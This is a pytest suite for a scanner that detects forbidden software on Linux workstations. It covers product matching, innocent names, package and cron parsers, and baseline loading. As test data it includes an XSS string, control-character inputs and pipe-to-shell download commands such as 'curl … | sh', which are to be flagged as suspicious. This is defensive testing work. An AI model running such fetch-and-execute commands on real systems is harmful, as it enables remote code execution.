"""Recognising software: every trace of the dictionary is found, innocents are not, hostile names do no harm."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from ybscan.engine.cases import live_tree
from ybscan.engine.scan import checked
from ybscan.hosts.base import Host
from ybscan.hosts.replay import replay
from ybscan.model.dictionary import Dictionary, DictionaryFile, Product, Traces
from ybscan.model.facts import Fact
from ybscan.model.problem import InputProblems
from ybscan.model.reading import Cause, Known, Unknown
from ybscan.model.rule import Role, Severity
from ybscan.model.site import Site
from ybscan.probes._software.allow import allowed, forbidden_here, usable
from ybscan.probes._software.baseline import Baseline, parse_baseline
from ybscan.probes._software.commands import started
from ybscan.probes._software.desktop import parse_entry, programs_of
from ybscan.probes._software.folders import bare
from ybscan.probes._software.match import Clue, Index, Match, match_products
from ybscan.probes._software.packages import parse_status
from ybscan.probes._software.records import Entry, Found, Inventory, Package
from ybscan.probes._software.tables import autostart_command, cron_command
from ybscan.probes._software.text import folded, shown
from ybscan.probes.base import Context
from ybscan.probes.software import SoftwareProbe
from ybscan.rules.software import load_dictionary

NOW = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)


def ids(matches: list[Match]) -> list[str]:
    return [m.product.id for m in matches]


def example(pattern: str) -> str:
    """A name that a wildcard fits."""
    return pattern.replace("[67]", "7").replace("*", "1").replace("?", "x")


# The dictionary itself ------------------------------------------------------------------------------------------


def test_every_package_and_app_is_found_and_conclusive_only_when_verified(dictionary: Dictionary) -> None:
    for product in dictionary.products:
        for name in (*product.linux.packages, *product.linux.apps):
            found = match_products(Inventory(packages=[Package("dpkg", example(name), "1")]), dictionary)
            assert product.id in ids(found), name
            match = next(m for m in found if m.product.id == product.id)
            trusted = "*" not in name and not product.unverified(product.linux, name)
            assert match.confirmed() is trusted, name


def test_every_process_service_and_path_is_a_clue_of_its_own_kind(dictionary: Dictionary) -> None:
    for product in dictionary.products:
        for name in (*product.linux.processes, *product.windows.processes):
            name = example(name)
            found = match_products(Inventory(processes={name.casefold(): name}), dictionary)
            assert product.id in ids(found), name
        for name in product.linux.services:
            name = example(name)
            found = match_products(Inventory(services={name.casefold(): "/etc/systemd/system/x"}), dictionary)
            assert product.id in ids(found), name
        for path in product.linux.paths:
            folder, _, name = path.replace("~", "/home/yb").rpartition("/")
            inventory = Inventory(listings={folder: (name,)}, homes=("/home/yb",))
            found = match_products(inventory, dictionary)
            assert product.id in ids(found), path
            assert next(m for m in found if m.product.id == product.id).kinds() == ("files",)


def test_every_product_named_in_chinese_is_found_by_its_menu_entry(dictionary: Dictionary) -> None:
    names = {
        "腾讯QQ": "qq", "ＱＱ": "qq", "QQ NT": "qq", "微信": "wechat", "WeChat": "wechat", "企业微信": "wxwork", "钉钉": "dingtalk",
        "飞书": "feishu", "腾讯会议": "wemeet", "向日葵远程控制": "sunlogin", "ToDesk": "todesk", "UU远程": "gameviewer",
        "百度网盘": "baidunetdisk", "阿里云盘": "aliyundrive", "夸克网盘": "quark-drive", "115浏览器": "pan115", "坚果云": "nutstore",
        "迅雷": "xunlei", "迅雷11": "xunlei", "360极速浏览器": "browser-360", "QQ浏览器": "browser-qq", "爱奇艺": "video-sites",
        "酷狗音乐": "music", "网易云音乐": "music", "QQ音乐": "music", "同花顺": "stock", "鲁大师": "ludashi", "QQ游戏": "board-games",
        "U盘使用记录清除": "usb-trace-cleaners", "小马激活工具": "kms-activators", "360随身WiFi": "wifi-360", "花生壳": "phddns",
        "蒲公英": "pgyvpn", "雷电模拟器": "android-emulators", "火绒安全软件": "huorong", "Clash Verge": "clash", "北信源主机审计": "vrv",
    }  # fmt: skip
    for name, product in names.items():
        found = match_products(Inventory(entries=[Entry("/x/a.desktop", "a", (name,), ())]), dictionary)
        assert product in ids(found), name
        assert not next(m for m in found if m.product.id == product).confirmed(), "one clue confirms nothing"


INNOCENT_NAMES = (
    "搜狗输入法", "QQ拼音输入法", "ＱＱ输入法", "QQ五笔", "微信输入法", "WeType", "讯飞输入法", "百度输入法", "fcitx 配置", "WPS 文字", "WPS 2019",
    "WPS 表格", "Microsoft Word", "福昕阅读器", "7-Zip", "归档管理器", "文件管理器", "控制面板", "设置", "终端", "计算器", "打印机", "得实打印机驱动",
    "汉印标签打印", "佳博打印", "HP 设备管理器", "扫描", "德卡读卡器驱动", "华大读卡器", "神思身份证阅读", "国家医保信息平台", "医保电子凭证",
    "医院信息系统", "HIS 客户端", "药店管理系统", "麒麟软件商店", "应用商店", "系统监视器", "奇安信可信浏览器", "奇安信浏览器", "Firefox ESR",
    "浏览器", "文本编辑器", "截图", "看图", "音乐", "影院", "相机", "日历", "联系人", "邮件", "Thunderbird", "Npcap", "支付宝安全控件",
    "工商银行网银助手", "VMware Tools", "VMware Horizon Client", "TigerVNC Viewer", "Remmina", "远程桌面连接", "TimeShift", "时间和语言",
    "Xfce 终端", "Steam-free 提示", "Document Scanner", "Boxes of labels", "东方红医保助手", "Clash of Codes", "Trojan Remover", "迅雷驱动下载说明",
)  # fmt: skip
INNOCENT_PACKAGES = (
    "fcitx-sogoupinyin", "com.sogou.sogoupinyin-uos", "sogouimebs", "wps-office", "com.foxit.reader", "libpcap0.8", "npcap",
    "libccid", "pcscd", "printer-driver-escpr", "hplip", "cups", "remmina", "tigervnc-viewer", "thunderbird", "firefox-esr",
    "libqrencode4", "libtorrent-rasterbar2.0", "open-vm-tools", "virtualbox-guest-utils", "qemu-guest-agent", "vlc-data",
    "dingtalk-lite-font", "libsteam", "chromium-l10n", "uos-browser-stable", "kylin-software-center", "openssh-client",
    "network-manager-openvpn", "libzmq5", "zoomtext-data", "torsocks", "python3-nmap", "hydra-fonts", "john-doe-font",
)  # fmt: skip
INNOCENT_PROCESSES = (
    "systemd", "dbus-daemon", "fcitx", "sogoupinyin-servi", "wps", "cupsd", "pcscd", "NetworkManager", "kylin-nm", "Xorg", "ukui-panel",
    "dde-dock", "gnome-shell", "firefox-esr", "qaxbrowser", "java", "python3", "bash", "ssh-agent", "vmtoolsd", "code", "node", "time",
    "sunlogin-free", "qqpinyin", "wetype", "thunderbird", "timer.exe", "his.exe",
)  # fmt: skip


@pytest.mark.parametrize("name", INNOCENT_NAMES)
def test_innocent_names_are_nobody(name: str, dictionary: Dictionary) -> None:
    inventory = Inventory(
        entries=[Entry(f"/usr/share/applications/{name}.desktop", "app", (name,), ())],
        found=[Found(f"/opt/{name}", "opt", name)],
    )
    assert [i for i in match_products(inventory, dictionary) if i.product.category != "security"] == []


def test_innocent_packages_and_processes_are_nobody(dictionary: Dictionary) -> None:
    inventory = Inventory(
        packages=[Package("dpkg", n, "1") for n in INNOCENT_PACKAGES],
        processes={n.casefold(): n for n in INNOCENT_PROCESSES},
    )
    assert ids(match_products(inventory, dictionary)) == []


def test_what_a_name_is_not_wins_over_the_program_it_starts(dictionary: Dictionary) -> None:
    entry = Entry("/x/qqpinyin.desktop", "qqpinyin", ("QQ拼音输入法",), ("/opt/qqpinyin/qq",))
    assert "qq" not in ids(match_products(Inventory(entries=[entry]), dictionary))


def test_two_kinds_of_clue_confirm_and_two_of_one_kind_do_not(dictionary: Dictionary) -> None:
    entries = [Entry("/a/1.desktop", "1", ("微信",), ()), Entry("/b/2.desktop", "2", ("WeChat",), ())]
    (one,) = match_products(Inventory(entries=entries), dictionary)
    assert not one.confirmed()
    (two,) = match_products(Inventory(entries=entries[:1], processes={"wechat": "wechat"}), dictionary)
    assert two.confirmed()
    assert two.kinds() == ("desktop", "process")


def test_a_cut_kernel_name_is_found_by_its_head(dictionary: Dictionary) -> None:
    # qemu-system-x86_64 shows as 15 characters when its image cannot be read.
    cut = "qemu-system-x86_64"[:15]
    assert "kvm" in ids(match_products(Inventory(processes={cut: cut}), dictionary))
    assert ids(match_products(Inventory(processes={"qemu-system": "qemu-system"}), dictionary)) == []


def test_zero_width_and_full_width_characters_hide_nothing(dictionary: Dictionary) -> None:
    for name in ("To\u200bDesk", "ＴｏＤｅｓｋ", "\u202etodesk", " ToDesk  ", "to\u00adDESK"):
        assert "todesk" in ids(match_products(Inventory(entries=[Entry("/x", "x", (name,), ())]), dictionary)), repr(
            name
        )


# Hostile input --------------------------------------------------------------------------------------------------

HOSTILE = (
    "<script>alert(1)</script>",
    "微" * 10_000,
    "a\x00b\x1b[31m\r\n",
    "\udcff\ud800名",
    "(" * 200,
    "\\",
    "{name}",
    "",
)


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_names_pass_through_harmless(name: str, dictionary: Dictionary, tmp_path: Path) -> None:
    inventory = Inventory(
        packages=[Package("dpkg", name or "x", name)],
        entries=[Entry(f"/usr/share/applications/{name}.desktop", name, (name, "ToDesk"), (name,))],
        found=[Found(f"/opt/{name}", "appimage", name)],
        processes={folded(name): name},
        services={folded(name): f"/etc/systemd/system/{name}"},
        listings={"/opt": (name,)},
        personal=["/opt"],
    )
    (match,) = match_products(inventory, dictionary)
    for clue in match.clues:
        assert len(clue.text) < 400
        clue.text.encode("utf-8")
        assert not set(clue.text) & set("\x00\x1b\r\n")
    site = Site.model_validate({"software": {"extra_forbidden": ["*(*", "[", "to?esk", "*"], "allowed": ["[", "*"]}})
    forbidden_here(inventory, site)
    assert not allowed(match, site)
    assert len(shown(name)) <= 160


def test_expressions_of_the_dictionary_are_fast_on_long_names(dictionary: Dictionary) -> None:
    index = Index(dictionary)
    begin = time.perf_counter()
    for text in ("qq " * 4000, "u盘" * 5000, "a" * 10_000, "office " * 2000, "证券" * 5000):
        list(index.named(text))
    assert time.perf_counter() - begin < 1.0


# The unit's own lists -------------------------------------------------------------------------------------------


def test_a_blanket_pattern_approves_nothing() -> None:
    assert usable(["*", "??", " * ", "a*", "wps*"]) == ("wps*",)


def test_wildcards_of_the_unit_do_not_join_two_programs() -> None:
    inventory = Inventory(packages=[Package("dpkg", "gamemode", "1")], processes={"gameviewer": "gameviewer"})
    site = Site.model_validate({"software": {"extra_forbidden": ["game*"]}})
    assert [m.confirmed() for m in forbidden_here(inventory, site)] == [False, False]
    inventory.processes["gamemode"] = "gamemode"
    assert [m.confirmed() for m in forbidden_here(inventory, site)] == [True, False]


def test_approval_of_one_program_does_not_cover_its_group(dictionary: Dictionary) -> None:
    product = next(p for p in dictionary.products if p.id == "local-players")
    site = Site.model_validate({"software": {"allowed": ["vlc*"]}})
    vlc = Match(product, {Clue("package", "", "vlc"): None})
    both = Match(product, {Clue("package", "", "vlc"): None, Clue("package", "", "kodi"): None})
    assert allowed(vlc, site)
    assert not allowed(both, site)


def test_what_the_unit_forbids_is_taken_out_by_an_exact_approval_only() -> None:
    inventory = Inventory(packages=[Package("dpkg", "realvnc-viewer", "7")])
    site = Site.model_validate({"software": {"extra_forbidden": ["*vnc*"], "allowed": ["realvnc-viewer"]}})
    (match,) = forbidden_here(inventory, site)
    assert allowed(match, site, exact_only=True)
    wide = Site.model_validate({"software": {"extra_forbidden": ["*vnc*"], "allowed": ["*viewer"]}})
    assert not allowed(match, wide, exact_only=True)


# Parsers --------------------------------------------------------------------------------------------------------


def test_states_of_dpkg() -> None:
    def stanza(name: str, state: str) -> str:
        return f"Package: {name}\nStatus: {state}\nVersion: 1:2.0-3\nConffiles:\n /etc/x 0\n\n"

    packages, known, gaps = parse_status(
        stanza("held", "hold ok installed") + stanza("gone", "deinstall ok config-files") + stanza("half", "install ok half-configured")
        + stanza("selected", "deinstall ok installed") + stanza("never", "purge ok not-installed")
    )  # fmt: skip
    assert [p.name for p in packages] == ["held", "half", "selected"]
    assert len(known) == 5
    assert gaps == []


@pytest.mark.parametrize("text", ["", "\n\n", "锟斤拷{{[<", "Package: a\n\n", "Package: a\nStatus: install ok\n\n"])
def test_a_status_file_that_makes_no_sense_is_never_an_empty_system(text: str) -> None:
    assert parse_status(text)[2]


def test_cutting_a_status_file_anywhere_inside_a_stanza_shows() -> None:
    text = "".join(f"Package: p{i}\nStatus: install ok installed\nVersion: {i}\nDescription: d\n\n" for i in range(3))
    whole = len(parse_status(text)[0])
    for cut in range(1, len(text)):
        packages, _, gaps = parse_status(text[:cut])
        at_end = text[:cut].endswith(("Description: d\n", "Description: d\n\n"))
        assert (
            gaps
            or at_end
            or len(packages) == whole
            or text[:cut].rstrip().endswith(("Version: 0", "Version: 1", "Version: 2"))
        ), cut


@pytest.mark.parametrize(
    ("command", "programs"),
    [
        ("/opt/QQ/qq %U", ("/opt/QQ/qq",)),
        ("env LANG=zh_CN.UTF-8 /opt/todesk/bin/ToDesk", ("env", "/opt/todesk/bin/ToDesk")),
        ("/usr/bin/flatpak run --branch=stable com.tencent.WeChat", ("/usr/bin/flatpak", "com.tencent.WeChat")),
        ('"/opt/my app/run" --x', ("/opt/my app/run",)),
        ('env WINEPREFIX="/home/a/.wine" wine "C:\\\\Program Files\\\\Tencent\\\\QQ.exe"', ("QQ.exe",)),
        ("", ()),
    ],
)
def test_programs_of_exec_lines(command: str, programs: tuple[str, ...]) -> None:
    found = programs_of(command)
    assert set(programs) <= set(found)
    assert bool(found) is bool(programs)


def test_actions_and_generic_names_are_not_the_entry() -> None:
    entry = parse_entry(
        "[Desktop Entry]\nName=医保客户端\nGenericName=微信\nExec=/opt/yb/app\n[Desktop Action q]\nName=QQ\nExec=/opt/QQ/qq\n",
        "/x/yb.desktop",
    )
    assert entry.names == ("医保客户端",)
    assert entry.programs == ("/opt/yb/app",)


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("clash-verge_2.0.1_amd64.AppImage", "clash-verge"), ("QQ_3.2.1_x86_64.AppImage", "QQ"), ("rustdesk-1.3.8-x86_64.AppImage", "rustdesk"),
        ("115", "115"), ("2345Explorer", "2345Explorer"), ("微信-4.0.AppImage", "微信"), ("ToDesk.exe", "ToDesk"),
    ],
)  # fmt: skip
def test_bare_names(name: str, wanted: str) -> None:
    assert bare(name) == wanted


@pytest.mark.parametrize(  # paths are names here, nothing is written
    ("command", "suspicious"),
    [
        ("/usr/sbin/sshd -D", False), ("find /tmp -mtime +7 -delete", False), ("rm -rf /tmp/cache", False), ("/tmp/a", True),  # noqa: S108
        ("cd / && run-parts --report /etc/cron.hourly", False), ("test -x /tmp/a || /usr/bin/b", False), ("nohup /var/tmp/.x/a &", True),
        ("/bin/sh -c '/dev/shm/a -b'", True), ("python3 /tmp/a.py", True), ("python3 -u /opt/a.py /tmp/out", False),
        ("sudo -u yb nice -n 10 /tmp/b", True), ("sudo -n /tmp/b", True), ("ionice -c 3 -t /dev/shm/b", True), ("flock -n /tmp/lock /usr/bin/backup", False), ("flock -n /tmp/lock /tmp/x", True),
        ("curl -s http://10.0.0.1/a.sh | sh", True), ("curl -s http://10.0.0.1/health", False), ("wget -qO- http://a | bash -s", True),
        ("timeout 30s /dev/shm/m", True), ("-/opt/a --tmp=/tmp/x", False), ("FOO=/tmp/x /usr/bin/y", False), ("", False),
    ],
)  # fmt: skip
def test_suspicious_commands(command: str, suspicious: bool) -> None:
    assert bool(started(command).why) is suspicious, started(command)


def test_cron_lines() -> None:
    assert cron_command("17 * * * * root cd / && run-parts /etc/cron.hourly", user_column=True) == (
        "root",
        "cd / && run-parts /etc/cron.hourly",
    )
    assert cron_command("@reboot /opt/x --y", user_column=False) == ("", "/opt/x --y")
    assert cron_command("MAILTO=root", user_column=True) is None
    assert cron_command("# x", user_column=True) is None
    assert cron_command("7 25 cron.weekly nice run-parts /etc/cron.weekly", user_column=True, anacron=True) == (
        "root",
        "nice run-parts /etc/cron.weekly",
    )
    assert cron_command("17 * * *", user_column=False) == ("", "")


def test_autostart_entries_that_are_switched_off() -> None:
    assert autostart_command("[Desktop Entry]\nExec=/opt/a\n") == "/opt/a"
    assert autostart_command("[Desktop Entry]\nExec=/opt/a\nHidden=true\n") is None
    assert autostart_command("[Desktop Entry]\nExec=/opt/a\nX-GNOME-Autostart-enabled=false\n") is None


@pytest.mark.parametrize(
    "text",
    ["", "- a", "schema: ybscan.site/v1", "schema: ybscan.baseline/v1\npackages: x", "schema: ybscan.baseline/v1\na: &x 1\nb: *x",
     "schema: ybscan.baseline/v1\nschema: ybscan.baseline/v1", "{[", "schema: ybscan.baseline/v1\nautostart: [{a: b}]", "[" * 5000],
)  # fmt: skip
def test_malformed_baselines_are_refused(text: str) -> None:
    assert isinstance(parse_baseline(text), str)


def test_a_baseline_of_other_subjects_says_nothing_here() -> None:
    found = parse_baseline("schema: ybscan.baseline/v1\nother: {/opt/a: abc}\npackages: [no, 1.0]\n")
    assert found == Baseline(frozenset({"no", "1.0"}), None)


# The loader -----------------------------------------------------------------------------------------------------


def write(root: Path, products: str) -> Path:
    (root / "software").mkdir()
    (root / "software" / "a.yml").write_text(
        f'schema: ybscan.software/v1\nid: aa\ntitle: t\nversion: "1"\ndate: "2026-11-22"\nproducts:\n{products}',
        encoding="utf-8",
    )
    return root


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ("names: ['(']", "有误"), ("names: ['.*']", "过宽"), ("names: ['(?i)x']", "内嵌标志"), ("linux: { packages: ['*'] }", "过宽"),
        ("linux: { processes: [x] }", "过宽"), ("linux: { packages: [foo], unverified: [bar] }", "不在本节"), ("review: [settlement]", "同时"),
        ("note: 没有线索", "没有任何识别线索"),
    ],
)  # fmt: skip
def test_bad_dictionaries_are_refused(extra: str, message: str, tmp_path: Path) -> None:
    with pytest.raises(InputProblems, match=message):
        load_dictionary(
            write(
                tmp_path,
                f"  - {{ id: aa, name: 甲, category: im, severity: high, confidence: verified, source: x, checked: 2026-11-22, {extra} }}\n",
            )
        )


def test_two_products_may_not_claim_one_package(tmp_path: Path) -> None:
    line = "  - {{ id: {0}, name: 甲, category: im, severity: high, confidence: verified, source: x, checked: 2026-11-22, linux: {{ packages: [foo] }} }}\n"
    with pytest.raises(InputProblems, match="已属于产品"):
        load_dictionary(write(tmp_path, line.format("aa") + line.format("bb")))


def test_the_dictionary_is_dated_and_told_apart_by_confidence(dictionary: Dictionary) -> None:
    assert dictionary.date == "2026-11-22"
    assert {p.confidence for p in dictionary.products} == {"verified", "memory"}
    assert all(p.roles or p.review for p in dictionary.products if p.category != "security")
    assert len(dictionary.products) >= 100


# The probe ------------------------------------------------------------------------------------------------------


def read(host: Host, dictionary: Dictionary, site: Site | None = None) -> dict[str, Fact]:
    probe = SoftwareProbe()
    facts = probe.read(host, Context(site=site or Site(), now=NOW, dictionary=dictionary))
    return {s.name: checked(facts.get(s.name), s) for s in probe.facts}


def test_without_a_dictionary_nothing_is_clean(tmp_path: Path) -> None:
    products = read(live_tree(tmp_path), Dictionary())["products"]
    assert isinstance(products, Unknown)
    assert products.cause is Cause.NOT_CONFIGURED


def test_an_empty_machine_has_gaps_everywhere(dictionary: Dictionary) -> None:
    products = read(replay("linux", {}), dictionary)["products"]
    assert isinstance(products, Known)
    assert products.value == ()
    assert len(products.gaps) > 5


def test_a_large_terminal_is_matched_quickly(dictionary: Dictionary) -> None:
    inventory = Inventory(
        packages=[Package("dpkg", f"lib-package-{i}", "1") for i in range(2500)],
        entries=[Entry(f"/usr/share/applications/{i}.desktop", f"org.app{i}", (f"应用程序 {i}", f"Application {i}"), (f"/usr/bin/app{i}",)) for i in range(200)],
        processes={f"process-{i}": f"process-{i}" for i in range(400)},
        services={f"service-{i}": "x" for i in range(400)},
    )  # fmt: skip
    match_products(inventory, dictionary)
    best = min(_timed(inventory, dictionary) for _ in range(5))
    assert best < 0.1


def _timed(inventory: Inventory, dictionary: Dictionary) -> float:
    begin = time.perf_counter()
    match_products(inventory, dictionary)
    return time.perf_counter() - begin


def test_dictionary_document_refuses_the_units_own_category() -> None:
    with pytest.raises(ValueError, match="unit"):
        Product(
            id="xx",
            name="x",
            category="unit",
            severity=Severity.HIGH,
            confidence="memory",
            source="x",
            checked=datetime(2026, 11, 22, tzinfo=UTC).date(),
            names=("^abc$",),
            roles=(Role.OFFICE,),
        )
    assert DictionaryFile.model_fields["products"].is_required()
    assert Traces(packages=("a",), unverified=("a",)).all_names() == ("a",)
